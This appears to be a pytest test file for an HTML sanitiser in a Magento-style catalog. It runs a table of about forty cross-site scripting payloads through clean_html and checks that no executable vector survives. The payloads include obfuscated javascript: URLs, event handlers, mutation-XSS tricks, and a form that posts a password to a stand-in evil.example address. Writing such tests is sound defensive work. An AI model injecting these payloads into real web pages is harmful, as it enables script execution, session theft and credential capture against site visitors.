"""The Magento-HTML sanitiser (catalog/sanitize.py) against a table of hostile inputs.

Every case is run through ``clean_html`` and the output is parsed back as a browser would tokenise it; it must
hold no executable vector: no element outside the allow-list (so no script, iframe, svg, style, form, meta,
base, object, embed, img), no event-handler or ``style`` attribute, and no URL whose scheme (after the
browser's own entity decoding and whitespace stripping) is anything but http(s), mailto, tel or relative.
Where the input also carries harmless formatting, that formatting must survive.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from catalog.sanitize import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, clean_html

SAFE_SCHEMES = {"http", "https", "mailto", "tel"}
GENERIC_ATTRIBUTES = {"lang", "title"}  # ammonia's defaults on every element: text only, never executed
# Sanitised HTML is followed by the rest of our template: close any attribute and tag a hostile input left
# open, so a vector that only completes with later markup is seen too.
PAGE_CONTINUES = '"></div>'
_SCHEME = re.compile(r"^([a-zA-Z][a-zA-Z0-9+.-]*):")


class _Collect(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, attrs))

    handle_startendtag = handle_starttag


def executable_vectors(html: str) -> list[str]:
    """What in ``html`` a browser could execute or use to navigate/load hostile content; [] when none."""
    parser = _Collect()
    parser.feed(html + PAGE_CONTINUES)
    parser.close()
    found = []
    for tag, attrs in parser.elements:
        if tag not in ALLOWED_TAGS:
            found.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name in {"style", "srcdoc", "formaction", "action", "src", "xlink:href"}:
                found.append(f"{tag}[{name}]")
            if name not in ALLOWED_ATTRIBUTES.get(tag, set()) | GENERIC_ATTRIBUTES:
                found.append(f"{tag}[{name}] not allowed")
            if name == "href" and value is not None:
                # Browsers drop control characters and whitespace inside the scheme before resolving it.
                squeezed = re.sub(r"[\x00-\x20]", "", value)
                scheme = _SCHEME.match(squeezed)
                if scheme and scheme.group(1).lower() not in SAFE_SCHEMES:
                    found.append(f"href={value!r}")
    # Text is text, but a literal "<script" surviving unescaped would mean the parser saw something we did not.
    if re.search(r"<\s*(script|iframe|svg|style|object|embed)", html, re.IGNORECASE):
        found.append("raw dangerous tag text")
    return found


# (case id, hostile input, harmless markup that must survive in the output — or "" when nothing should)
HOSTILE = [
    ("script", "<p>Hi</p><script>alert(1)</script>", "<p>Hi</p>"),
    ("script-upper", "<SCRIPT SRC=//evil.example/x.js></SCRIPT><b>bold</b>", "<b>bold</b>"),
    ("script-split", "<scr<script>ipt>alert(1)</scr</script>ipt>", ""),
    ("script-in-attr-break", '<p title="</p><script>alert(1)</script>">x</p>', "x"),
    ("img-onerror", "<img src=x onerror=alert(1)><em>pic</em>", "<em>pic</em>"),
    ("p-onclick", '<p onclick="alert(1)">click</p>', "<p>click</p>"),
    ("div-onmouseover-class", '<div class="hero" onmouseover=alert(1)>Hero</div>', '<div class="hero">Hero</div>'),
    ("a-javascript", '<a href="javascript:alert(1)">link</a>', "link"),
    ("a-javascript-mixed-case", '<a href="JaVaScRiPt:alert(1)">link</a>', "link"),
    ("a-javascript-entity", '<a href="&#106;avascript:alert(1)">link</a>', "link"),
    ("a-javascript-hex-entity", '<a href="&#x6A;&#x61;vascript&#x3A;alert(1)">link</a>', "link"),
    ("a-javascript-named-colon", '<a href="javascript&colon;alert(1)">link</a>', "link"),
    ("a-javascript-tab", '<a href="java\tscript:alert(1)">link</a>', "link"),
    ("a-javascript-newline-entity", '<a href="java&#10;script:alert(1)">link</a>', "link"),
    ("a-javascript-leading-space", '<a href="  javascript:alert(1)">link</a>', "link"),
    ("a-vbscript", '<a href="vbscript:msgbox(1)">link</a>', "link"),
    ("a-data-html", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">link</a>', "link"),
    ("img-data-svg", '<img src="data:image/svg+xml,<svg onload=alert(1)>">', ""),
    ("svg-onload", "<svg onload=alert(1)><circle r=1 /></svg><i>ok</i>", "<i>ok</i>"),
    ("svg-script", "<svg><script>alert(1)</script></svg>", ""),
    ("svg-a-xlink", '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', ""),
    ("math-xss", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", ""),
    ("iframe", '<iframe src="https://evil.example"></iframe><p>after</p>', "<p>after</p>"),
    ("iframe-srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>', ""),
    ("object-embed", '<object data="x.swf"></object><embed src="x.swf">', ""),
    ("style-element", "<style>body{background:url(javascript:alert(1))}</style><p>p</p>", "<p>p</p>"),
    ("style-expression", '<p style="width: expression(alert(1))">ie</p>', "<p>ie</p>"),
    ("style-url-javascript", '<div style="background:url(javascript:alert(1))">bg</div>', "<div>bg</div>"),
    ("form-action", '<form action="https://evil.example/steal"><input name=pw><button>Go</button></form>', ""),
    ("button-formaction", '<button formaction="javascript:alert(1)">x</button>', ""),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><p>m</p>', "<p>m</p>"),
    ("base-href", '<base href="https://evil.example/"><a href="/about-us">about</a>', '<a href="/about-us">about</a>'),
    ("link-stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">', ""),
    ("unclosed-script", "<p>start<script>alert(1)", "<p>start</p>"),
    ("unclosed-img", "<b>bold<img src=x onerror=alert(1)", "<b>bold</b>"),
    ("unclosed-attr", '<a href="javascript:alert(1)>never closed', ""),
    ("comment-conditional", "<!--[if IE]><script>alert(1)</script><![endif]--><p>c</p>", "<p>c</p>"),
    ("cdata", "<![CDATA[<script>alert(1)</script>]]><p>d</p>", "<p>d</p>"),
    ("noscript-mxss", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', ""),
    ("template", "<template><script>alert(1)</script></template>", ""),
    ("target-blank", '<a href="https://example.com" target="_blank">ext</a>', '<a href="https://example.com">ext</a>'),
]


@pytest.mark.parametrize(("case", "dirty", "kept"), HOSTILE, ids=[case for case, _, _ in HOSTILE])
def test_hostile_input_has_no_executable_vector(case: str, dirty: str, kept: str) -> None:
    clean = clean_html(dirty)
    assert executable_vectors(clean) == [], f"{case}: {clean!r}"
    if kept:
        assert kept in clean, f"{case}: harmless formatting lost in {clean!r}"


def test_the_table_is_large_and_the_checker_can_fail() -> None:
    """The checker itself must spot every vector it claims to look for (or the table above proves nothing)."""
    assert len(HOSTILE) >= 40
    raw = [dirty for _, dirty, _ in HOSTILE]
    caught = [dirty for dirty in raw if executable_vectors(dirty)]
    assert len(caught) == len(raw), [dirty for dirty in raw if dirty not in caught]


def test_harmless_formatting_survives_whole() -> None:
    dirty = (
        "<h1>Care</h1><p class='lead'>Wash <strong>cold</strong>, <em>line dry</em>.</p>"
        "<ul><li>One</li><li>Two</li></ul><table><tr><th scope='col'>Size</th></tr><tr><td>M</td></tr></table>"
        '<p><a href="https://example.com/care" title="Care">guide</a> · <a href="mailto:help@example.com">mail</a>'
        ' · <a href="tel:+15551234">call</a> · <a href="/about-us">about</a></p>'
    )
    clean = clean_html(dirty)
    for fragment in (
        "<h2>Care</h2>",
        '<p class="lead">Wash <strong>cold</strong>, <em>line dry</em>.</p>',
        "<ul><li>One</li><li>Two</li></ul>",
        '<th scope="col">Size</th>',
        "<td>M</td>",
        '<a href="https://example.com/care" title="Care">guide</a>',
        '<a href="mailto:help@example.com">mail</a>',
        '<a href="tel:+15551234">call</a>',
        '<a href="/about-us">about</a>',
    ):
        assert fragment in clean, clean
